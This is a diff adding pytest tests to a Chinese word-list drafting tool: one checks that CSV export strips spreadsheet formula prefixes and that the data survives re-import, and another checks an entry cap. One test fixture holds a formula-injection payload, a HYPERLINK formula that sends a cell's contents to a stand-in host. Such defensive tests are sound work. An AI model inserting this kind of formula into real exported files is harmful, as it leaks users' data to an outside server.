@@ -136,3 +136,26 @@ def test_check_cli_takes_word_list_files(tmp_path, capsys):
     main(["check", str(draft), "--year", "2025", "--wordlist", str(words)])
     assert "街道办事处" in capsys.readouterr().out
     assert main(["check", str(draft), "--year", "2025", "--wordlist", str(tmp_path / "none.csv")]) == 2
+
+
+def test_csv_export_cannot_carry_a_formula(lists, tmp_path):
+    evil = [WordEntry(wrong='=HYPERLINK("http://x/?"&A1,"点")', right="+1", note="-2"),
+            WordEntry(list_name="@list", wrong="好", right="@好")]
+    for e in evil:
+        lists.add(e)
+    text = lists.export("csv")
+    cells = [c for line in text.splitlines()[1:] for c in line.split(",")]
+    assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), text
+    other = WordLists(DraftStore(f"sqlite:///{tmp_path / 'other.db'}"))
+    other.import_file(text, "csv")
+    assert set(other.entries()) == set(evil)  # the ' comes off again on import
+
+
+def test_total_entries_capped(lists, monkeypatch):
+    import drafter.wordlists as wl
+
+    monkeypatch.setattr(wl, "MAX_TOTAL", 3)
+    lists.import_file("错误写法,建议写法\n甲,乙\n丙,丁\n", "csv")
+    with pytest.raises(InputError, match="上限 3 条"):
+        lists.import_file("错误写法,建议写法\n戊,己\n庚,辛\n", "csv")
+    assert len(lists.all()) == 2
